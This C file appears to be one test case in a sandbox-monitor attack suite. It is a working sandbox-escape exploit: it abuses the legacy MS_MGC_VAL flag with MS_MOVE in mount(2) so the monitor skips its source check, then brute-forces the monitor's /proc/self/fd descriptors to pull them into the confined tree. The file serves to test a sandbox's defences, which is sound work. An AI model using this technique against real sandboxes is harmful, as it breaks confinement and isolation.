// Old programs put the magic number MS_MGC_VAL into the flags of mount(2), and the kernel takes the upper half of the flags
// off then. The number contains bits that otherwise ask for a change of propagation. Read without that rule the flags ask
// for something that has no source. So a source that is a descriptor of the monitor's (a detached procfs without
// masks, the file of the monitor) would not be judged, and be moved into the payload's tree.
#include "attack.h"
#include <sys/mount.h>

static void try(int number, const char *target) {
    char source[64];
    snprintf(source, sizeof source, "/proc/self/fd/%d", number);
    if (mount(source, target, NULL, MS_MGC_VAL | MS_MOVE, NULL) == 0)
        attack_won("mount(2) has moved descriptor %d of the monitor to %s", number, target);
}

int main(void) {
    mkdir("/tmp/at", 0755);
    close(open("/tmp/file", O_CREAT | O_WRONLY, 0644));
    if (mount("/tmp", "/tmp", NULL, MS_MGC_VAL | MS_BIND, NULL) < 0 || umount2("/tmp", MNT_DETACH) < 0)
        attack_broken("mount");
    usleep(50000); // the watcher sees the process
    for (int number = 3; number < 5000; number++) {
        if (fcntl(number, F_GETFD) >= 0)
            continue; // a descriptor of the program's own
        try(number, "/tmp/at");
        try(number, "/tmp/file");
    }
    attack_lost();
}
